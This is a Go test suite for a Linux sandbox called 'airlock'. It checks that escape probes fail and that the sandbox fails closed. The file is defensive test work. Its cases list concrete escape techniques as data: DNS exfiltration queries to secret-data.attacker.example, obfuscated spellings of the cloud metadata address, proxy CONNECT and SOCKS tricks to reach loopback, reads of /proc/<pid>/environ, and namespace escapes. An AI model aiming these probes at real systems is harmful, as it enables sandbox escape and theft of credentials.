//go:build linux

package escape

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// attempt is one way out the probe tries; check judges its result and the run's audit events.
type attempt struct {
	name  string
	args  []string
	check func(t *testing.T, w *world, r result, events []auditEvent)
}

// wantErrno: the attempt failed with errno e.
func wantErrno(e string) func(*testing.T, *world, result, []auditEvent) {
	return func(t *testing.T, _ *world, r result, _ []auditEvent) {
		t.Helper()
		if r.OK || r.Errno != e {
			t.Errorf("got %s; want a failure with %s", r, e)
		}
	}
}

// wantFailed: the attempt failed, however.
func wantFailed(t *testing.T, _ *world, r result, _ []auditEvent) {
	t.Helper()
	if r.OK {
		t.Errorf("got %s; want a failure", r)
	}
}

// wantBlocked: the proxy answered 403 with reason (any when "").
func wantBlocked(reason string) func(*testing.T, *world, result, []auditEvent) {
	return func(t *testing.T, _ *world, r result, events []auditEvent) {
		t.Helper()
		if r.OK || r.Status != 403 || reason != "" && r.Reason != reason {
			t.Errorf("got %s; want 403 with X-Airlock-Reason %q", r, reason)
		}
		if !hasEvent(events, "egress_blocked", reason) {
			t.Errorf("no egress_blocked event with reason %q in the audit log: %+v", reason, events)
		}
	}
}

// wantSOCKSRefused: the SOCKS5 server replied 0x02 (connection not allowed by ruleset).
func wantSOCKSRefused(t *testing.T, _ *world, r result, _ []auditEvent) {
	t.Helper()
	if r.OK || r.Reply == nil || *r.Reply != 2 {
		t.Errorf("got %s; want SOCKS5 reply 0x02", r)
	}
}

// wantNXDOMAIN: the sandbox's DNS said NXDOMAIN, and so did Go's resolver.
func wantNXDOMAIN(t *testing.T, _ *world, r result, _ []auditEvent) {
	t.Helper()
	if r.OK || r.Rcode != "NXDOMAIN" || r.Answers != 0 || !strings.Contains(r.Detail, "go resolver: not found") {
		t.Errorf("got %s; want NXDOMAIN with no answer", r)
	}
}

// and runs every check.
func and(checks ...func(*testing.T, *world, result, []auditEvent)) func(*testing.T, *world, result, []auditEvent) {
	return func(t *testing.T, w *world, r result, events []auditEvent) {
		t.Helper()
		for _, c := range checks {
			c(t, w, r, events)
		}
	}
}

// untouched: after the attempt, the counters (named for the message) saw nothing.
func untouched(counters map[string]func(*world) *counter) func(*testing.T, *world, result, []auditEvent) {
	return func(t *testing.T, w *world, _ result, _ []auditEvent) {
		t.Helper()
		for name, c := range counters {
			if n := c(w).conns.Load(); n != 0 {
				t.Errorf("SECURITY: %s accepted %d connection(s)/packet(s)", name, n)
			}
		}
	}
}

// noQueries: the test DNS server was never asked about name.
func noQueries(name string) func(*testing.T, *world, result, []auditEvent) {
	return func(t *testing.T, w *world, _ result, _ []auditEvent) {
		t.Helper()
		if n := w.dns.Count(name); n != 0 {
			t.Errorf("SECURITY: the upstream DNS server saw %d quer(ies) for %s", n, name)
		}
	}
}

var (
	metadata   = map[string]func(*world) *counter{"metadata 169.254.169.254:80": func(w *world) *counter { return w.metadata }}
	lan        = map[string]func(*world) *counter{"lan 10.77.0.2:80": func(w *world) *counter { return w.lan }}
	public80   = map[string]func(*world) *counter{"public 198.51.100.7:80": func(w *world) *counter { return w.public80 }}
	public8080 = map[string]func(*world) *counter{"public 198.51.100.7:8080": func(w *world) *counter { return w.public8080 }}
	public6    = map[string]func(*world) *counter{"public [2001:db8:77::7]:80": func(w *world) *counter { return w.public6 }}
	loop4      = map[string]func(*world) *counter{"the world's 127.0.0.1 listener": func(w *world) *counter { return w.loop4 }}
	loop6      = map[string]func(*world) *counter{"the world's [::1] listener": func(w *world) *counter { return w.loop6 }}
)

// TestMustFail: every way out but the proxy fails, and the proxy refuses every destination the
// policy does not grant. No test host sees a connection, the upstream DNS server sees no query
// for a denied name, and no host process is reachable.
func TestMustFail(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	self := strconv.Itoa(os.Getpid())

	// A host process the sandbox must not be able to signal.
	sleeper := exec.Command("sleep", "300")
	if err := sleeper.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		sleeper.Process.Kill()
		sleeper.Wait()
	})
	sleeperPID := strconv.Itoa(sleeper.Process.Pid)

	p4, p6 := w.loop4Port, w.loop6Port
	metadataSpellings := []string{"0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "2852039166", "[::ffff:a9fe:a9fe]"}

	attempts := []attempt{
		// Direct connections: the sandbox's network namespace has only its own loopback.
		{"tcp/world-loopback-v4", []string{"tcp", "127.0.0.1:" + p4}, and(wantFailed, untouched(loop4))},
		{"tcp/world-loopback-v6", []string{"tcp", "[::1]:" + p6}, and(wantFailed, untouched(loop6))},
		{"tcp/metadata", []string{"tcp", "169.254.169.254:80"}, and(wantErrno("ENETUNREACH"), untouched(metadata))},
		{"tcp/lan", []string{"tcp", "10.77.0.2:80"}, and(wantErrno("ENETUNREACH"), untouched(lan))},
		{"tcp/public", []string{"tcp", "198.51.100.7:80"}, and(wantErrno("ENETUNREACH"), untouched(public80))},
		{"tcp/public-v6", []string{"tcp", "[2001:db8:77::7]:80"}, and(wantErrno("ENETUNREACH"), untouched(public6))},

		// Through the HTTP proxy, to destinations the policy does not grant.
		{"http/metadata", []string{"http", "http://169.254.169.254/latest/meta-data/"}, and(wantBlocked("metadata"), untouched(metadata))},
		{"http/lan", []string{"http", "http://10.77.0.2/"}, and(wantBlocked("private"), untouched(lan))},
		{"http/allowed-host-wrong-port", []string{"http", "http://198.51.100.7:8080/"}, and(wantBlocked(""), untouched(public8080))},
		{"http/public-v6-not-granted", []string{"http", "http://[2001:db8:77::7]/"}, and(wantBlocked(""), untouched(public6))},
		{"http/allowed-name-private-address", []string{"http", "http://private.example.net/"}, and(wantBlocked("private"), untouched(lan))},

		// Raw CONNECT to the world's loopback (where the supervisor runs) in several spellings.
		{"connect/loopback-v4", []string{"connect", "127.0.0.1:" + p4}, and(wantBlocked("loopback"), untouched(loop4))},
		{"connect/loopback-0x7f.1", []string{"connect", "0x7f.1:" + p4}, and(wantBlocked("loopback"), untouched(loop4))},
		{"connect/loopback-localhost", []string{"connect", "localhost:" + p4}, and(wantBlocked(""), untouched(loop4))},
		{"connect/loopback-v6", []string{"connect", "[::1]:" + p6}, and(wantBlocked("loopback"), untouched(loop6))},
		{"connect/loopback-mapped", []string{"connect", "[::ffff:127.0.0.1]:" + p4}, and(wantBlocked("loopback"), untouched(loop4))},
		{"connect/lan", []string{"connect", "10.77.0.2:80"}, and(wantBlocked("private"), untouched(lan))},
		{"connect/allowed-host-wrong-port", []string{"connect", "198.51.100.7:8080"}, and(wantBlocked(""), untouched(public8080))},

		// SOCKS5 (socks5h: the proxy resolves) to what the policy does not grant.
		{"socks/metadata-ipv4", []string{"socks", "169.254.169.254", "80"}, and(wantSOCKSRefused, untouched(metadata))},
		{"socks/lan", []string{"socks", "10.77.0.2", "80"}, and(wantSOCKSRefused, untouched(lan))},
		{"socks/loopback", []string{"socks", "127.0.0.1", p4}, and(wantSOCKSRefused, untouched(loop4))},
		{"socks/loopback-v6", []string{"socks", "::1", p6}, and(wantSOCKSRefused, untouched(loop6))},
		{"socks/allowed-host-wrong-port", []string{"socks", "198.51.100.7", "8080"}, and(wantSOCKSRefused, untouched(public8080))},
		{"socks/allowed-name-private-address", []string{"socks", "private.example.net", "80"}, and(wantSOCKSRefused, untouched(lan))},

		// UDP: no route, and nothing arrives.
		{"udp/public", []string{"udp", "198.51.100.7:53", "udp-escape-public.example"}, and(wantErrno("ENETUNREACH"),
			untouched(map[string]func(*world) *counter{"public 198.51.100.7:53/udp": func(w *world) *counter { return w.publicUDP }}),
			noQueries("udp-escape-public.example"))},
		{"udp/dns-host", []string{"udp", "10.77.0.53:53", "udp-escape-dns.example"}, and(wantErrno("ENETUNREACH"), noQueries("udp-escape-dns.example"))},

		// Raw and packet sockets.
		{"raw", []string{"raw"}, wantErrno("EPERM")},
		{"packet", []string{"packet"}, wantErrno("EPERM")},

		// DNS exfiltration: denied names end at the sandbox's DNS.
		{"dns/denied-A", []string{"dns", "secret-data.attacker.example", "A"}, and(wantNXDOMAIN, noQueries("secret-data.attacker.example"))},
		{"dns/denied-TXT", []string{"dns", "secret-data-txt.attacker.example", "TXT"}, and(wantNXDOMAIN, noQueries("secret-data-txt.attacker.example"))},
		{"dns/denied-AAAA", []string{"dns", "secret-data-aaaa.attacker.example", "AAAA"}, and(wantNXDOMAIN, noQueries("secret-data-aaaa.attacker.example"))},
		{"dns/subdomain-of-allowed", []string{"dns", "secret-data.allowed.example.net", "A"}, and(wantNXDOMAIN, noQueries("secret-data.allowed.example.net"))},
		{"dns/allowed-name-TXT", []string{"dns", "allowed.example.net", "TXT"}, func(t *testing.T, _ *world, r result, _ []auditEvent) {
			if r.OK || r.Answers != 0 {
				t.Errorf("got %s; want no TXT answer for an allowed name", r)
			}
		}},

		// Unix sockets of the host, and an abstract socket of the supervisor's namespace.
		{"unix/tmp", []string{"unix", w.unixTmpPath}, and(wantErrno("EPERM"), untouched(map[string]func(*world) *counter{w.unixTmpPath: func(w *world) *counter { return w.unixTmp }}))},
		{"unix/run", []string{"unix", w.unixRunPath}, and(wantErrno("EPERM"), untouched(map[string]func(*world) *counter{w.unixRunPath: func(w *world) *counter { return w.unixRun }}))},
		{"unix/abstract", []string{"abstract", w.abstractName}, and(wantFailed, untouched(map[string]func(*world) *counter{"@" + w.abstractName: func(w *world) *counter { return w.abstract }}))},

		// Host processes: invisible.
		{"kill/test-process", []string{"kill", self, "0"}, wantErrno("ESRCH")},
		{"kill/host-sleeper", []string{"kill", sleeperPID, strconv.Itoa(int(syscall.SIGKILL))}, wantErrno("ESRCH")},
		{"read/test-process-environ", []string{"read", "/proc/" + self + "/environ"}, wantErrno("ENOENT")},
		{"read/test-process-net-tcp", []string{"read", "/proc/" + self + "/net/tcp"}, wantErrno("ENOENT")},
		{"read/host-sleeper-environ", []string{"read", "/proc/" + sleeperPID + "/environ"}, wantErrno("ENOENT")},

		// New user namespaces, and back out.
		{"unshare-user", []string{"unshare"}, wantErrno("EPERM")},
		{"clone-user", []string{"clone-userns"}, wantErrno("EPERM")},
		{"setns/proc-1", []string{"setns", "/proc/1/ns/net"}, func(t *testing.T, _ *world, r result, _ []auditEvent) {
			// PID 1 is the sandbox's helper, which is not dumpable (and may keep capabilities on
			// threads other than the one that forked the workload): the kernel refuses even to
			// open its namespace (EACCES). Either refusal will do.
			if r.OK || !(r.Errno == "EPERM" || r.Detail == "open" && r.Errno == "EACCES") {
				t.Errorf("got %s; want EACCES at open or EPERM at setns", r)
			}
		}},
		{"setns/self", []string{"setns", "/proc/self/ns/net"}, wantErrno("EPERM")},
		{"setns/world", []string{"setns", filepath.Join("/run/netns", w.Name)}, wantErrno("EPERM")},
	}
	for _, s := range metadataSpellings {
		attempts = append(attempts, attempt{"connect/metadata-" + s, []string{"connect", s + ":80"}, and(wantBlocked("metadata"), untouched(metadata))})
		host := strings.Trim(s, "[]") // SOCKS5: an address when it parses as one, else a domain
		attempts = append(attempts, attempt{"socks/metadata-" + s, []string{"socks", host, "80"}, and(wantSOCKSRefused, untouched(metadata))})
	}

	t.Run("attempts", func(t *testing.T) {
		for _, a := range attempts {
			t.Run(a.name, func(t *testing.T) {
				t.Parallel()
				r, events := w.probeRun(t, a.args...)
				a.check(t, w, r, events)
			})
		}
	})

	// After all of them: nothing reached any test host or the host's processes.
	for name, c := range map[string]*counter{
		"metadata": w.metadata, "lan": w.lan, "public:80": w.public80, "public:8080": w.public8080,
		"public [v6]:80": w.public6, "public:53/udp": w.publicUDP, "dns:53/tcp": w.dnsTCP,
		"world 127.0.0.1": w.loop4, "world [::1]": w.loop6, "abstract": w.abstract,
		"unix /tmp": w.unixTmp, "unix /run": w.unixRun,
	} {
		if n := c.conns.Load(); n != 0 {
			t.Errorf("SECURITY: %s saw %d connection(s)/packet(s)", name, n)
		}
	}
	if n := queriesOfType(w.dns, dns.TypeTXT); n != 0 {
		t.Errorf("SECURITY: the upstream DNS server saw %d TXT queries", n)
	}
	byName := map[string]int{}
	for _, q := range w.dns.Queries() {
		byName[dns.CanonicalName(q.Name)]++
	}
	for name, n := range byName {
		if name != "private.example.net." { // the one name the supervisor had to resolve
			t.Errorf("SECURITY: the upstream DNS server saw %d quer(ies) for %s", n, name)
		}
	}
	if err := sleeper.Process.Signal(syscall.Signal(0)); err != nil {
		t.Errorf("SECURITY: the host's sleep process is gone: %v", err)
	}
}

// TestMustSucceed: the granted destination works through the proxy, by address with curl and
// by name with Go's net/http, and the audit log records it.
func TestMustSucceed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)

	t.Run("curl-by-address", func(t *testing.T) {
		curl, err := exec.LookPath("curl")
		if err != nil {
			t.Fatalf("curl is needed for this test: %v", err)
		}
		before := w.public80.requests.Load()
		out, events := w.run(t, curl, "-sS", "-o", "/dev/null", "-w", "%{http_code}", "http://198.51.100.7/")
		if out != "200" {
			t.Errorf("curl printed %q, want 200", out)
		}
		if got := w.public80.requests.Load() - before; got != 1 {
			t.Errorf("the public host served %d requests, want 1", got)
		}
		if !hasEvent(events, "egress_allowed", "") {
			t.Errorf("no egress_allowed event in the audit log: %+v", events)
		}
	})

	t.Run("probe-by-name", func(t *testing.T) {
		before := w.public80.requests.Load()
		r, events := w.probeRun(t, "http", "http://allowed.example.net/")
		if !r.OK || r.Status != 200 || r.Detail != "testworld public" {
			t.Errorf("got %s; want 200 from the public host", r)
		}
		if got := w.public80.requests.Load() - before; got != 1 {
			t.Errorf("the public host served %d requests, want 1", got)
		}
		if n := w.dns.Count("allowed.example.net"); n == 0 {
			t.Errorf("the upstream DNS server saw no query for allowed.example.net: the supervisor resolved it elsewhere")
		}
		if !hasEvent(events, "egress_allowed", "") {
			t.Errorf("no egress_allowed event in the audit log: %+v", events)
		}
	})

	for name, c := range map[string]*counter{"metadata": w.metadata, "lan": w.lan, "public:8080": w.public8080} {
		if n := c.conns.Load(); n != 0 {
			t.Errorf("%s saw %d connection(s)", name, n)
		}
	}
}

// TestFailClosed: killing the supervisor (SIGKILL, so it can clean nothing up) kills the
// workload and everything else in the sandbox, and no connection reaches the allowed host
// afterwards.
func TestFailClosed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	marker := "airlock-escape-failclosed-" + randomHex(6)

	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	stderr, err := os.Create(filepath.Join(t.TempDir(), "stderr"))
	if err != nil {
		t.Fatal(err)
	}
	defer stderr.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 2*patience)
	defer cancel()
	args := append(append([]string{"run"}, policyArgs...), "--log", filepath.Join(t.TempDir(), "audit.jsonl"),
		"--", w.probe, "wait", "http://198.51.100.7/", marker)
	cmd := w.Command(ctx, w.airlock, args...)
	cmd.Stdout, cmd.Stderr = pw, stderr // files: no copying goroutines to wait for
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	pw.Close()
	waited := false
	defer func() {
		if !waited {
			cmd.Process.Kill()
			cmd.Wait()
		}
	}()

	// The probe's lines, until every process holding the pipe's write end is gone.
	lines := make(chan result)
	stop, readerDone := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(readerDone)
		defer close(lines)
		sc := bufio.NewScanner(pr)
		for sc.Scan() {
			var r result
			if json.Unmarshal(sc.Bytes(), &r) != nil {
				continue
			}
			select {
			case lines <- r:
			case <-stop:
				return
			}
		}
	}()
	defer func() {
		close(stop)
		pr.Close() // unblocks the reader if the sandbox somehow survived
		<-readerDone
	}()

	// 1. The workload got through once.
	timeout := time.After(patience)
wait:
	for {
		select {
		case r, ok := <-lines:
			if !ok {
				b, _ := os.ReadFile(stderr.Name())
				t.Fatalf("the probe ended before any request got through; stderr: %s", b)
			}
			if r.OK {
				t.Logf("request %d got through: %s", r.Seq, r)
				break wait
			}
		case <-timeout:
			t.Fatalf("no request got through within %v", patience)
		}
	}

	// 2. Find the probe on this machine, and check that the command's process is airlock
	//    (`ip netns exec` execs it).
	var probePIDs []int
	for deadline := time.Now().Add(patience); len(probePIDs) == 0; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("no process with argv[0] %s and %s found in /proc", w.probe, marker)
		}
		_, probePIDs = processesWith(marker, w.probe)
	}
	exe, err := os.Readlink("/proc/" + strconv.Itoa(cmd.Process.Pid) + "/exe")
	if err != nil || exe != w.airlock {
		t.Fatalf("process %d is %q (%v), want the airlock supervisor %s", cmd.Process.Pid, exe, err, w.airlock)
	}
	t.Logf("supervisor %d, probe %v", cmd.Process.Pid, probePIDs)

	// 3. Kill the supervisor alone.
	if err := syscall.Kill(cmd.Process.Pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	err = cmd.Wait()
	waited = true
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
		t.Errorf("airlock ended with %v, want killed by SIGKILL", err)
	}

	// 4. A fence: once the public host has accepted a connection of ours, made after the
	//    supervisor was dead, it has accepted every connection made before (accept is FIFO).
	//    Connections counted after the fence were made after the kill.
	var fence net.Conn
	w.Do(t, func() { fence, err = net.DialTimeout("tcp", "198.51.100.7:80", patience) })
	if err != nil {
		t.Fatalf("fence connection: %v", err)
	}
	fenceAddr := fence.LocalAddr().String()
	fence.Close()
	for deadline := time.Now().Add(patience); !w.public80.sawRemote(fenceAddr); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the public host never accepted the fence connection")
		}
	}
	afterKill := w.public80.conns.Load()

	// 5. Everything of the sandbox dies: no process carries the marker, and the pipe's write
	//    end (held by the helper and the probe) is closed.
	var left []int
	for deadline := time.Now().Add(patience); ; time.Sleep(10 * time.Millisecond) {
		if left, _ = processesWith(marker, w.probe); len(left) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("SECURITY: %v after killing the supervisor, processes %v of the sandbox still run", patience, left)
		}
	}
	var after []result
	eof := time.After(patience)
drain:
	for {
		select {
		case r, ok := <-lines:
			if !ok {
				break drain
			}
			after = append(after, r)
		case <-eof:
			t.Fatalf("SECURITY: the probe's stdout is still open %v after killing the supervisor", patience)
		}
	}
	t.Logf("%d more lines from the probe after the first success", len(after))

	// 6. Nothing reached the public host after the kill.
	if n := w.public80.conns.Load(); n != afterKill {
		t.Errorf("SECURITY: the public host accepted %d connection(s) after the supervisor was killed", n-afterKill)
	}
}

// TestProbeWithoutAirlock is the suite's control: the same probe, run in the world without
// airlock, gets out by the very paths TestMustFail finds closed, and the test hosts count what
// reaches them. So a passing TestMustFail means airlock stopped the attempts, not that the
// probe or the counters are broken. (The probe runs inside the world: still no packet can
// leave the machine.)
func TestProbeWithoutAirlock(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	self := strconv.Itoa(os.Getpid())
	run := func(t *testing.T, args ...string) result {
		t.Helper()
		wantOK := args[0] != "dns" // a lookup of a name the DNS host does not know: NXDOMAIN
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		defer cancel()
		cmd := w.Command(ctx, w.probe, args...)
		cmd.WaitDelay = time.Second
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("probe %s: %v", strings.Join(args, " "), err)
		}
		var r result
		if err := json.Unmarshal(out, &r); err != nil {
			t.Fatalf("probe %s: %q: %v", strings.Join(args, " "), out, err)
		}
		if wantOK && !r.OK {
			t.Errorf("probe %s without airlock: %s; want it to get through", strings.Join(args, " "), r)
		}
		return r
	}
	counts := func(t *testing.T, name string, c *counter, want int64) {
		t.Helper()
		// A connection is counted when the listener's goroutine accepts it, just after the
		// probe's connect returned.
		deadline := time.Now().Add(patience)
		for c.conns.Load() < want && time.Now().Before(deadline) {
			time.Sleep(5 * time.Millisecond)
		}
		if n := c.conns.Load(); n != want {
			t.Errorf("%s counted %d, want %d", name, n, want)
		}
	}

	run(t, "tcp", "127.0.0.1:"+w.loop4Port)
	counts(t, "world 127.0.0.1", w.loop4, 1)
	run(t, "tcp", "[::1]:"+w.loop6Port)
	counts(t, "world [::1]", w.loop6, 1)
	run(t, "tcp", "169.254.169.254:80")
	counts(t, "metadata", w.metadata, 1)
	run(t, "tcp", "10.77.0.2:80")
	counts(t, "lan", w.lan, 1)
	run(t, "tcp", "198.51.100.7:80")
	counts(t, "public:80", w.public80, 1)
	run(t, "tcp", "[2001:db8:77::7]:80")
	counts(t, "public [v6]:80", w.public6, 1)
	run(t, "udp", "10.77.0.53:53", "control-udp.example")
	if n := w.dns.Count("control-udp.example"); n != 1 {
		t.Errorf("the DNS host saw %d queries for control-udp.example, want 1", n)
	}
	r := run(t, "dns", "control-dns.example", "TXT") // NXDOMAIN: the probe reports ok=false
	if r.Rcode != "NXDOMAIN" || w.dns.Count("control-dns.example") == 0 || queriesOfType(w.dns, dns.TypeTXT) == 0 {
		t.Errorf("a TXT lookup in the world did not reach the DNS host: %s", r)
	}
	run(t, "unix", w.unixTmpPath)
	counts(t, "unix /tmp", w.unixTmp, 1)
	run(t, "unix", w.unixRunPath)
	counts(t, "unix /run", w.unixRun, 1)
	run(t, "abstract", w.abstractName)
	counts(t, "abstract", w.abstract, 1)
	run(t, "raw")
	run(t, "kill", self, "0")
	run(t, "read", "/proc/"+self+"/environ")
	run(t, "clone-userns")
	run(t, "setns", filepath.Join("/run/netns", w.Name))
}
